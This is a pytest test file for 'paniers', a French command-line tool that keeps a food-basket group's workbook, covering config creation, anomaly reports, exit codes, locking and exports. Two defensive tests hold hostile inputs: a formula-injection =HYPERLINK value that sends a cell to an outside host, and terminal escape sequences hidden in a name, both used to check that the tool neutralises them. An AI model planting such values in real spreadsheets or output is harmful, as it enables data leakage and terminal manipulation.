"""The command line through its real entry point: French output, exit codes, nothing overwritten."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from plain import plain

import jobs
from sync import sheet
from sync.stores import LocalWorkbookStore

ROOT = Path(__file__).resolve().parent.parent
NOW = ["--now", "2026-12-02 10:00"]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(capsys, *argv):
    """The job's exit code and what it printed, compared for what it says (French spacing aside: plain)."""
    code = jobs.main(list(argv))
    out, err = capsys.readouterr()
    return code, plain(out), plain(err)


def test_init_creates_a_config_and_a_workbook_with_every_tab(folder, capsys):
    code, out, _ = run(capsys, "init")
    assert code == 0
    assert (folder / "config.toml").exists() and "Configuration créée" in out
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    grids = store.read([t.name for t in sheet.ALL_TABS])
    for tab in sheet.ALL_TABS:
        assert grids[tab.name] == [tab.header], tab.name
    assert "Étape suivante" in out


def test_init_never_overwrites_a_tab_with_data(folder, capsys):
    run(capsys, "init", "--demo")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    before = store.read(["Produits", "Clients"])
    code, out, _ = run(capsys, "init", "--demo")
    assert code == 0
    assert plain(out).startswith("Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets.\n")
    assert "Données de démonstration non ajoutées : Producteurs, Produits, Ventes, Clients" in plain(out)
    assert store.read(["Produits", "Clients"]) == before


def test_init_again_on_a_complete_workbook_says_so_in_one_line(folder, capsys):
    """Nothing per tab (« laissé tel quel »), nothing about the tabs the tool rewrites itself; what a person must
    look at (the example values still in config.toml), yes."""
    run(capsys, "init", "--demo")
    run(capsys, "check", *NOW)  # Commandes, Par producteur, Anomalies… now hold rows
    capsys.readouterr()
    code, out, _ = run(capsys, "init")
    assert code == 0
    lines = plain(out).splitlines()
    assert lines[0] == "Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets."
    assert len(lines) == 2 and lines[1].startswith("À regarder : config.toml garde des valeurs de l'exemple "
                                                   "([group] name, [group] coordinator_email, [mail] sender)")
    assert "tel quel" not in out and "Commandes" not in out and "Anomalies" not in out
    text = (folder / "config.toml").read_text(encoding="utf-8")
    for old, new in (("Les Paniers du CIVAM", "Les Paniers de Valençay"), ("animation@example.org", "anne@civam.fr"),
                     ("paniers@example.org", "paniers@civam.fr")):
        text = text.replace(f'= "{old}"', f'= "{new}"')
    (folder / "config.toml").write_text(text, encoding="utf-8")
    code, out, _ = run(capsys, "init")
    assert code == 0 and plain(out) == "Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets.\n"


def test_check_warns_of_example_values_left_in_the_configuration(folder, capsys):
    run(capsys, "init", "--demo")
    code, out, _ = run(capsys, "check", *NOW)
    assert code == 0
    expected = ("[group] name dans config.toml est encore la valeur de l'exemple : mettez-y celle du groupe "
                "(valeur : « Les Paniers du CIVAM »)")
    assert f"  ! {expected}" in plain(out).splitlines()
    assert "[mail] sender dans config.toml est encore la valeur de l'exemple" in plain(out)
    anomalies = LocalWorkbookStore(folder / "paniers.xlsx").read(["Anomalies"])["Anomalies"]
    rows = [row for row in anomalies[1:] if "valeur de l'exemple" in plain(row[5])]
    assert [row[1:5] for row in rows] == [["avertissement", "", "", ""]] * 3
    assert sorted(plain(row[5]).split(" dans ")[0] for row in rows) == [
        "[group] coordinator_email", "[group] name", "[mail] sender"]
    run(capsys, "tick", *NOW)  # tick rewrites Anomalies too: the warnings stay until the file is fixed
    anomalies = LocalWorkbookStore(folder / "paniers.xlsx").read(["Anomalies"])["Anomalies"]
    assert len([row for row in anomalies[1:] if "valeur de l'exemple" in plain(row[5])]) == 3


def test_init_fills_only_the_empty_tabs(folder, capsys):
    run(capsys, "init")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    from sync.stores import Changes
    store.write(Changes(replace={"Produits": [sheet.PRODUCTS.header, ["MINE", "X", "Mon produit", "", "1"]]}))
    code, _out, _ = run(capsys, "init", "--demo")
    assert code == 0
    assert store.read(["Produits"])["Produits"][1][0] == "MINE"
    assert len(store.read(["Producteurs"])["Producteurs"]) == 9


def test_check_reports_in_french_and_writes_anomalies(folder, capsys):
    run(capsys, "init", "--demo")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    grid = store.read(["Produits"])["Produits"]
    grid[3][4] = "4,8O"  # a typo in a price
    from sync.stores import Changes
    store.write(Changes(replace={"Produits": grid}))
    code, out, _ = run(capsys, "check", *NOW)
    assert code == 0  # anomalies are not a failure
    assert "onglet « Produits », ligne 4, colonne « Prix » : prix illisible" in out
    anomalies = store.read(["Anomalies"])["Anomalies"]
    assert anomalies[0] == sheet.ANOMALIES.header
    assert anomalies[1][:6] == ["", "erreur", "Produits", 4, "Prix", anomalies[1][5]]


def test_bad_configuration_exits_2_with_a_french_message(folder, capsys):
    (folder / "config.toml").write_text("[store]\nbackend = 'excel'\n", encoding="utf-8")
    code, _, err = run(capsys, "check")
    assert code == 2
    assert err.startswith("Erreur : [store] backend = « excel » n'est pas possible")


def test_missing_configuration_exits_2(folder, capsys):
    code, _, err = run(capsys, "check")
    assert code == 2 and "config.toml" in err


def test_missing_workbook_exits_1_and_says_to_run_init(folder, capsys):
    (folder / "config.toml").write_text("", encoding="utf-8")
    code, _, err = run(capsys, "check", *NOW)
    assert code == 1 and "paniers init" in err


def test_unreadable_now_is_bad_usage(folder, capsys):
    (folder / "config.toml").write_text("", encoding="utf-8")
    code, _, err = run(capsys, "check", "--now", "demain matin")
    assert code == 2 and "--now" in err


def test_workbook_open_in_libreoffice(folder, capsys):
    run(capsys, "init", "--demo")
    (folder / ".~lock.paniers.xlsx#").write_text("x")
    code, _, err = run(capsys, "check", *NOW)
    assert code == 1 and "Fermez-le dans LibreOffice" in err


def test_config_option_points_elsewhere(tmp_path, capsys):
    config = tmp_path / "ailleurs" / "config.toml"
    config.parent.mkdir()
    config.write_text("[store]\npath = 'groupe.xlsx'\n", encoding="utf-8")
    code, _, _ = run(capsys, "--config", str(config), "init")
    assert code == 0 and (tmp_path / "ailleurs" / "groupe.xlsx").exists()
    code, _, _ = run(capsys, "check", "--config", str(config), *NOW)
    assert code == 0


def test_every_job_has_french_help_with_an_example_and_is_in_the_readme():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for name, function in jobs.JOBS.items():
        assert "Exemple :" in (function.__doc__ or ""), name
        assert f"paniers {name}" in readme or f"`{name}`" in readme, f"job {name} not in README"


def test_console_script_and_python_jobs_py_are_the_same_entry_point(tmp_path):
    for command in ([sys.executable, str(ROOT / "jobs.py"), "--help"], [sys.executable, "-m", "jobs", "--help"]):
        result = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=False)
        assert result.returncode == 0 and "paniers" in result.stdout
    result = subprocess.run([sys.executable, str(ROOT / "jobs.py"), "check", "--config", str(tmp_path / "no.toml")],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 2 and "Fichier de configuration introuvable" in result.stderr


def test_lists_writes_the_documents_of_a_sale(folder, capsys):
    run(capsys, "init", "--demo")
    code, out, _ = run(capsys, "lists", "--sale", "2026-12", "--out", str(folder / "impressions"), "--now",
                       "2026-12-11 10:00")
    assert code == 0
    names = sorted(p.name for p in (folder / "impressions").iterdir())
    assert "emargement-2026-12.pdf" in names
    assert any(n.startswith("liste-2026-12-") and n.endswith(".pdf") for n in names)
    assert "documents écrits" in out
    code, _, err = run(capsys, "lists", "--sale", "2027-01", *NOW)
    assert code == 2 and "n'existe pas" in err


def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
    run(capsys, "init", "--demo")
    run(capsys, "check", "--now", "2026-12-11 10:00")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    grid = store.read(["Émargement"])["Émargement"]
    header = grid[0]
    assert header[:4] == ["Vente", "Nom", "Email", "Téléphone"] and header[-2:] == ["Payé", "Remarques"]
    grid[1] += [""] * (len(header) - len(grid[1]))  # trailing empty cells are trimmed when read
    grid[1][header.index("Payé")] = "oui"
    grid[1][header.index("Remarques")] = "chèque n° 1234"
    from sync.stores import Changes
    store.write(Changes(replace={"Émargement": grid}))
    run(capsys, "check", "--now", "2026-12-11 10:05")
    after = store.read(["Émargement"])["Émargement"]
    row = next(r for r in after if r[2] == grid[1][2] and r[0] == grid[1][0])
    assert row[header.index("Payé")] == "oui" and row[header.index("Remarques")] == "chèque n° 1234"


def test_a_sale_dated_in_year_9999_is_an_anomaly_of_its_row_and_every_job_goes_on(folder, capsys):
    run(capsys, "init", "--demo")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    sales = store.read(["Ventes"])["Ventes"]
    row = list(sales[1]) + [""] * (len(sales[0]) - len(sales[1]))
    row[:6] = ["2099-FIN", "La fin des temps", "01/12/2026 08:00", "31/12/9999 23:59", "31/12/9999 23:59", ""]
    from sync.stores import Changes
    store.write(Changes(replace={"Ventes": [*sales, row]}))
    where = f"onglet « Ventes », ligne {len(sales) + 1}, colonne « Clôture » : date hors limites"
    code, out, err = run(capsys, "check", *NOW)
    assert code == 0 and where in out and "Erreur" not in err, err
    assert "2026-12 · Vente de décembre" in out  # the other sales go on
    code, out, err = run(capsys, "tick", *NOW)
    assert code == 0 and where in out, err
    assert "Vente 2026-12 (Vente de décembre) : commandes ouvertes" in out
    code, out, err = run(capsys, "status", *NOW)
    assert code == 0 and "Vente 2026-12 — Vente de décembre : commandes ouvertes" in out, err
    anomalies = store.read(["Anomalies"])["Anomalies"]
    assert ["", "erreur", "Ventes", len(sales) + 1, "Clôture"] in [r[:5] for r in anomalies]


def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(folder, capsys):
    import csv
    import io
    import zipfile

    from openpyxl import load_workbook

    run(capsys, "init", "--demo")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    products = store.read(["Produits"])["Produits"]
    hostile = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
    code = products[1][0]
    products[1][2] = hostile  # its Nom, typed by a producer or pasted from an email
    from sync.stores import Changes
    store.write(Changes(replace={"Produits": products}))
    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.xlsx", *NOW)[0] == 0
    assert run(capsys, "plan", "--like", "2026-11", "--out", "plan.csv", *NOW)[0] == 0
    sheet = load_workbook(folder / "plan.xlsx").active
    [cell] = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
    with zipfile.ZipFile(folder / "plan.xlsx") as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the file
    rows = list(csv.reader(io.StringIO((folder / "plan.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    [row] = [r for r in rows if r[1] == code]
    assert row[2].startswith("'=HYPERLINK")
    assert not any(field[:1] in "=+-@\t\r" for r in rows for field in r if field)


def test_escape_codes_typed_in_a_name_never_reach_the_terminal(folder, capsys):
    run(capsys, "init", "--demo")
    store = LocalWorkbookStore(folder / "paniers.xlsx")
    tab = "Réponses au formulaire 1"
    responses = store.read([tab])[tab]
    row = next(i for i, r in enumerate(responses) if r[1] == "nathalie.roux@example.com")  # her order is cut: named
    # how Excel stores an escape character typed in a cell (_x001B_), then the 8-bit CSI that XML holds as it is
    responses[row][2] = "_x001B_[2J_x001B_]0;pwned_x0007_Roux\x9b2J"
    from sync.stores import Changes
    store.write(Changes(replace={tab: responses}))
    assert "\x1b[2J" in store.read([tab])[tab][row][2]  # what the store hands the jobs
    # check names her in its report; tick prints its own report; an error message quotes what it was given
    for argv, code in ((["check"], 0), (["tick"], 0), (["tick", "--sale", "\x1b]0;pwned\x07"], 2)):
        done = subprocess.run([sys.executable, str(ROOT / "jobs.py"), *argv, *NOW], cwd=folder, capture_output=True,
                              timeout=300)
        assert done.returncode == code, done.stderr.decode()
        printed = done.stdout + done.stderr
        for control in (b"\x1b", b"\x07", b"\r", "\x9b".encode()):
            assert control not in printed, (argv, control)
        assert "pwned" in printed.decode() or argv == ["tick"], argv
    done = subprocess.run([sys.executable, str(ROOT / "jobs.py"), "check", *NOW], cwd=folder, capture_output=True)
    assert "Nathalie \ufffd[2J\ufffd]0;pwned\ufffdRoux\ufffd2J (nathalie.roux@example.com)" in done.stdout.decode()


def test_printable_keeps_lines_and_tabs_and_marks_every_other_control_character():
    from sync.terminal import printable

    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable("".join(map(chr, range(32))).replace("\t", "").replace("\n", "")) == "\ufffd" * 30
    assert printable("\x7f\x80\x9f\xa0é") == "\ufffd\ufffd\ufffd\xa0é"


def test_a_40000_character_answer_becomes_a_32767_character_cell_ending_with_an_ellipsis(folder, capsys):
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    run(capsys, "init", "--demo")
    path = folder / "paniers.xlsx"
    book = load_workbook(path)  # the answers tab as Google Sheets holds it (50 000 characters a cell), bypassing
    sheet = book["Réponses au formulaire 1"]  # the store, which would cut it on its way in
    header = [c.value for c in sheet[1]]
    row = next(r for r in range(2, sheet.max_row + 1)  # her December order, taken before NOW
               if sheet.cell(r, 2).value == "sophie.renaudin@example.com" and str(sheet.cell(r, 1).value)[3:5] == "12")
    sheet.cell(row, header.index("Nom") + 1).value = "N" * 40_000
    sheet.cell(row, header.index("Commentaire") + 1).value = "C" * 40_000
    book.save(path)
    code, _out, err = run(capsys, "check", *NOW)
    assert code == 0, err
    orders = LocalWorkbookStore(path).read(["Commandes"])["Commandes"]
    names = [r[orders[0].index("Nom")] for r in orders[1:] if r[:2] == ["2026-12", "sophie.renaudin@example.com"]]
    assert names and all(len(n) == 32_767 and n.endswith("…") and n.startswith("Sophie NNN") for n in names)
    reopened = load_workbook(path, read_only=True)  # opens, as Excel and LibreOffice need it to
    longest = max(len(v) for ws in reopened for r in ws.iter_rows(values_only=True) for v in r
                  if isinstance(v, str) and ws.title != "Réponses au formulaire 1")
    assert longest == 32_767
    calamine = CalamineWorkbook.from_path(str(path))
    assert len(calamine.get_sheet_by_name("Commandes").to_python()) == len(orders)


def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, capsys):
    from conftest import at

    from sync.runlock import exclusive

    run(capsys, "init", "--demo")
    path = folder / "paniers.xlsx"
    store = LocalWorkbookStore(path)
    tab = "Réponses au formulaire 1"
    responses = store.read([tab])[tab]
    newcomer = ["02/12/2026 08:00:00", "nouvelle.voisine@example.org", *responses[-1][2:]]  # a household never seen
    from sync.stores import Changes
    store.write(Changes(replace={tab: [*responses, newcomer]}))
    before = path.read_bytes()
    with exclusive(folder / ".paniers.lock", at("2026-12-02 09:59")):  # a tick sending, as cron started it
        code, out, _ = run(capsys, "check", *NOW)
        assert code == 0
        assert "Un autre passage de Paniers est en cours (processus" in out
        assert "« paniers check » s'arrête sans rien écrire" in out
        assert path.read_bytes() == before  # Clients, and everything else, as the tick will find it
        code, out, _ = run(capsys, "init")
        assert code == 0 and "« paniers init » s'arrête sans rien écrire" in out
    code, out, _ = run(capsys, "check", *NOW)  # the tick done: check does its work
    assert code == 0 and "1 nouveau foyer ajouté" in out
    assert "nouvelle.voisine@example.org" in [r[0] for r in store.read(["Clients"])["Clients"]]


def test_publish_form_sends_nothing_while_another_run_holds_the_lock(folder, capsys):
    from conftest import at

    from sync import config as config_module
    from sync.commands import Context, publish_form
    from sync.runlock import exclusive

    run(capsys, "init", "--demo")
    form_id = "1FbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEF"
    text = (folder / "config.toml").read_text(encoding="utf-8")
    (folder / "config.toml").write_text(text.replace('# form_id = "1FbC..."', f'form_id = "{form_id}"'))
    config = config_module.load(folder / "config.toml")
    assert config.forms.form_id == form_id  # without the lock, the job would go to Google now

    class Untouchable:  # any request to Google would fail the test
        def __getattr__(self, name):
            raise AssertionError(f"Google was asked something: {name}")

    said = []
    ctx = Context(config, LocalWorkbookStore(folder / "paniers.xlsx"), at("2026-12-02 10:00"), said.append)
    with exclusive(folder / ".paniers.lock", at("2026-12-02 09:59")):
        assert publish_form.run(ctx, "2026-12", session=Untouchable()) == 0
    assert "« paniers publish-form » s'arrête sans rien écrire" in plain(said[0])


def test_status_says_a_sale_without_orders_has_none_yet(folder, capsys):
    run(capsys, "init", "--demo")
    code, out, err = run(capsys, "status", "--now", "2026-12-12 10:05")
    assert code == 0, err
    noel = plain(out).split("Vente 2026-NOEL", 1)[1]
    assert "Aucune commande pour l'instant." in noel and "0 commande" not in noel
    assert "15 commandes, 27 produits" in plain(out)


def test_tick_says_a_sale_without_orders_has_none(folder, capsys):
    run(capsys, "init", "--demo")
    code, out, err = run(capsys, "tick", "--now", "2026-12-12 10:05")
    assert code == 0, err
    assert "Vente 2026-NOEL (Vente spéciale de Noël) : commandes ouvertes, aucune commande." in plain(out)


def test_a_terminal_in_a_legacy_encoding_gets_question_marks_not_a_crash(tmp_path):
    """cron or a terminal in ASCII or Latin-1: the no-break spaces and « » of the French output cannot be written;
    the run goes on and says what it has to say."""
    import os

    root = Path(__file__).resolve().parent.parent
    run = [sys.executable, str(root / "jobs.py")]
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    done = subprocess.run([*run, "--help"], cwd=tmp_path, capture_output=True, env=env, timeout=120)
    assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    assert b"d?faut" in done.stdout  # « par défaut », its « é » a « ? »
    done = subprocess.run([*run, "chek"], cwd=tmp_path, capture_output=True, env=env, timeout=120)
    assert done.returncode == 2 and b"Traceback" not in done.stderr, done.stderr
    assert b"Vouliez-vous dire" in done.stderr
